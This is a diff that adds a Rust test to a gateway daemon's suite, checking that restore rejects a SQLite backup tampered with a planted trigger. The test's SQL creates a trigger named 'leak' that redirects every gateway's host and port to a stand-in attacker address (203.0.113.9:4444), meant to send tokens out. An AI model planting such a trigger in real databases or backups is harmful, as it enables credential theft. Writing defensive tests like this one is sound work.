@@ -417,3 +417,47 @@ fn a_backup_taken_live_restores_the_fleet_with_its_tokens() {
         .collect();
     assert_eq!(names, vec![("kept".to_owned(), true)]);
 }
+
+/// A backup changed with plain SQL to hold a trigger (it fired inside the running daemon after
+/// a restore, sending a gateway's tokens wherever the attacker liked) is refused by restore,
+/// naming what is not the schema's own; the database in place is left as it was.
+#[test]
+fn restore_refuses_a_backup_holding_what_the_schema_does_not() {
+    use diesel::Connection;
+    use diesel::connection::SimpleConnection;
+    let mut d = Daemon::start();
+    if let crate::support::Database::Postgres { .. } = d.db {
+        return; // restore is SQLite's (PostgreSQL: pg_restore), covered above
+    }
+    d.create_gateway("kept", 1, Some("tok-kept-secret"));
+    let backups = tempfile::tempdir().unwrap();
+    let out = d.cli(&["backup", backups.path().to_str().unwrap()]);
+    assert!(out.status.success(), "{out:?}");
+    let copy = std::fs::read_dir(backups.path())
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    let mut conn = diesel::SqliteConnection::establish(copy.to_str().unwrap()).unwrap();
+    conn.batch_execute(
+        "CREATE TRIGGER leak AFTER UPDATE ON gateways BEGIN \
+           UPDATE gateways SET host = '203.0.113.9', port = 4444; END;",
+    )
+    .unwrap();
+    drop(conn);
+    assert!(d.terminate().success());
+    let before = std::fs::read(d.state_dir().join("supervisor.db")).unwrap();
+    let refused = d.cli(&["restore", copy.to_str().unwrap()]);
+    assert!(!refused.status.success(), "{refused:?}");
+    let stderr = String::from_utf8_lossy(&refused.stderr);
+    assert!(stderr.contains("trigger leak"), "{stderr}");
+    assert_eq!(
+        std::fs::read(d.state_dir().join("supervisor.db")).unwrap(),
+        before,
+        "the database in place is untouched"
+    );
+    d.launch();
+    let g = &d.gateways()[0];
+    assert_eq!(g["host"], "127.0.0.1");
+}
